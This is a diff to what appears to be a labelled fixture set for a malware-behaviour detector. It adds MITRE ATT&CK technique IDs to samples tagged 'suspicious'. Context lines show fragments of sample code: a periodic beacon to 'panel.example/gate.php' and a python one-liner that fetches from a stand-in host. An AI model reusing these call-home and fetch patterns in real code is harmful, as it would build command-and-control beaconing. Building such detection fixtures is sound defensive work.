@@ -29,7 +29,11 @@ for turn in range(5):
     urllib.request.urlopen(request).read()
     time.sleep(60)
 `,
-    shows: { trace_sends_data_out: ['T1041'], trace_calls_home: ['T1071.001'], trace_stalls: ['T1497.003'] },
+    shows: {
+      trace_sends_data_out: ['T1041', 'T1071.001'],
+      trace_calls_home: ['T1071.001'],
+      trace_stalls: ['T1497.003'],
+    },
     label: 'suspicious',
     tells: ['http://panel.example/gate.php', 'id=web01', 'Mozilla/4.0'],
   },
@@ -242,7 +246,7 @@ except ssl.SSLError: pass
       `python3 -c 'import urllib.request as u; u.urlopen("https://python.example:8443/p?q=1").read()'`,
     ]),
     shows: {
-      trace_sends_data_out: ['T1041'],
+      trace_sends_data_out: ['T1041', 'T1071.001'],
       trace_fetches_further_stage: ['T1105', 'T1071.001'],
     },
     label: 'suspicious',
